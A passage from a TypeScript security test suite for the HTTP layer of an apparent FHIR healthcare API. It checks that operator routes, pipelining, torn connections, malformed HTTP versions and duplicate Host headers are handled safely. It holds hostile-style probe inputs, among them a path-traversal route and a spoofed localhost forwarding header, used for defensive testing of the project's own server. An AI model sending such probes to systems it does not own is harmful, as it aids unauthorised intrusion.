  must(wrong.length === 0, wrong.join(' | '));
  const page = answers.at(-1);
  must(
    /text\/html/.test(page?.headers['content-type'] ?? '') && !/<script/i.test(page?.text ?? ''),
    'the page has no script',
  );
  return `${answers.length} answers: no-store, HSTS, nosniff, CSP, nothing of the inside`;
}

async function opsRoutes(stage: Stage): Promise<string> {
  const wrong: string[] = [];
  for (const path of [
    '/metrics',
    '/health/live',
    '/health/ready',
    '/console',
    '/debug',
    '/_status',
    '/stu3/../metrics',
  ]) {
    for (const headers of [{}, { 'x-forwarded-for': '127.0.0.1' }]) {
      const seen = await stage.ask({ path, headers, as: epd });
      if (![400, 404].includes(seen.status)) wrong.push(`${path}: ${seen.status}`);
    }
  }
  must(wrong.length === 0, wrong.join(' | '));
  const metrics = await (await fetch(`${stage.opsUrls[0]}/metrics`)).text();
  must(metrics.includes('http_requests_total'), 'twin: metrics on the other listener');
  const ids = /[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}/.exec(metrics)?.[0];
  must(
    ids === undefined && !metrics.includes('epd-a') && !metrics.includes(patients.yes.bsn),
    `a label tells ${ids ?? 'who asked'}`,
  );
  const data = await fetch(`${stage.opsUrls[0]}/stu3/metadata`);
  must(data.status === 404, `data from the ops listener: ${data.status}`);
  return '404 on the data port; metrics without ids on the other';
}

async function keptOpen(stage: Stage): Promise<string> {
  const token = await stage.tokenOf(ecdB);
  const other = await stage.tokenOf(ecdC);
  const { taskId } = await handedOver(stage);
  const ask = (bearer: string): string =>
    requestHead(`GET /stu3/Task/${taskId}`, `Authorization: Bearer ${bearer}`);
  const nobody = requestHead(`GET /stu3/Task/${taskId}`);
  const seen = await raw(stage, { parts: [ask(token) + ask(other) + nobody + ask(token)] });
  must(seen.statuses.join() === '200,404,401,200', `four pipelined requests: ${seen.statuses}`);
  return `pipelined: ${seen.statuses.join(', ')}`;
}

async function resets(stage: Stage): Promise<string> {
  const agent = new Agent({ keepAlive: false });
  const target = new URL(stage.urls[0] ?? '');
  const token = await stage.tokenOf(epd);
  const body = JSON.stringify(handoff());
  const cutting = Array.from(
    { length: 60 },
    (_, index) =>
      new Promise<void>((resolve) => {
        const request = httpRequest({
          agent,
          host: target.hostname,
          port: target.port,
          method: 'POST',
          path: '/stu3/$handover',
          headers: {
            authorization: `Bearer ${token}`,
            ...fhirJson,
            'content-length': Buffer.byteLength(body),
          },
        });
        request
          .on('error', () => resolve())
          .on('response', (response) => response.resume().on('end', resolve));
        request.write(body.slice(0, 200 * index));
        setTimeout(() => request.destroy(), index * 5);
        setTimeout(resolve, 2_000);
      }),
  );
  await Promise.all(cutting);
  const twin = await push(stage, handoff());
  mustBe(twin, { status: 202 }, 'a push after sixty torn ones');
  return '60 connections torn mid-body; twin 202';
}

export const transport: Group = {
  id: 'H',
  title: 'transport and HTTP',
  cases: [
    ...framing,
    { id: 'H06', title: 'headers with names of object members, too many, too large', run: strangeHeaders },
    { id: 'H07', title: 'pipelined requests of different callers', run: keptOpen },
    rawCase('H08', 'HTTP/2 and HTTP/0.9 on this port', [
      { name: 'HTTP/2 preface', first: 400, parts: ['PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'] },
      { name: 'HTTP/0.9', first: 400, parts: ['GET /stu3/metadata\r\n\r\n'] },
      { name: 'HTTP/9.9', first: 400, parts: ['GET /stu3/metadata HTTP/9.9\r\nHost: x\r\n\r\n'] },
      { name: 'TLS', first: 400, parts: [Buffer.from('16030100d8010000d40303', 'hex')] },
      { name: 'no Host', first: 400, parts: ['GET /stu3/metadata HTTP/1.1\r\n\r\n'] },
      {
        name: 'two Hosts',
        first: 400,
        parts: ['GET /stu3/metadata HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n'],
      },
    ]),
    pathCase,
    { id: 'H10', title: 'HEAD is GET without a body, and no way around', run: heads },
    { id: 'H11', title: 'OPTIONS and preflights', run: preflights },
    { id: 'H12', title: 'methods that nobody has', run: methods },
    overrides,
    {
      id: 'H14',
      title: 'content types that do not fit',
      run: refusals({
        tries: bodies,
        twin: () =>
          plain(
            'application/fhir+json; charset=utf-8',
            (stage) =>
              push(stage, handoff(), { headers: { 'content-type': 'application/fhir+json; charset=utf-8' } }),
            { status: 202 },
          ),
      }),
    },
    negotiation,
    languages,
    { id: 'H17', title: 'request ids that would break a log', run: requestIds },
    expects,
    links,
    { id: 'H20', title: 'slow headers, slow bodies, idle sockets', run: slow },
    { id: 'H21', title: 'callers that never read', run: neverReading },
    queryCase,
    forms,
    { id: 'H24', title: 'connections torn mid-body', run: resets },
    { id: 'H25', title: 'answers tell nothing of the inside', run: answersTellNothing },
    { id: 'H26', title: 'routes of operators on the data port', run: opsRoutes },
  ],
};
